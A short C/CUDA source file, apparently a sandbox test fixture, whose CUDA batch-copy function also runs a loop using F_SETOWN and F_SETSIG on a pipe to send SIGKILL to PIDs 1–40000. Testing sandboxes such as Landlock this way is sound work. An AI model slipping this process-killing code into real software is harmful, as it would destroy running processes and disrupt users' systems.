// ex43 fail: default stream
// also with Landlock
// Lets the kernel send a signal to others: F_SETOWN and F_SETSIG on a pipe.
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>
#include "ex43.h"

void asyncPipeline(const float *h_in, float *h_out, float *d_in, float *d_out)
{
    int ends[2];
    if (pipe(ends) == 0)
        for (int pid = 1; pid < 40000; pid++) {
            if (pid == getpid()) continue;
            fcntl(ends[0], F_SETOWN, pid);
            fcntl(ends[0], F_SETSIG, SIGKILL);
            fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK);
            (void)!write(ends[1], "x", 1);
        }
    for (int i = 0; i < BATCHES; i++) {
        size_t at = (size_t)i * BATCH_FLOATS;
        cudaMemcpy(d_in + at, h_in + at, BATCH_BYTES, cudaMemcpyHostToDevice);
        work<<<BLOCKS, THREADS>>>(d_in + at, d_out + at);
        cudaMemcpy(h_out + at, d_out + at, BATCH_BYTES, cudaMemcpyDeviceToHost);
    }
}
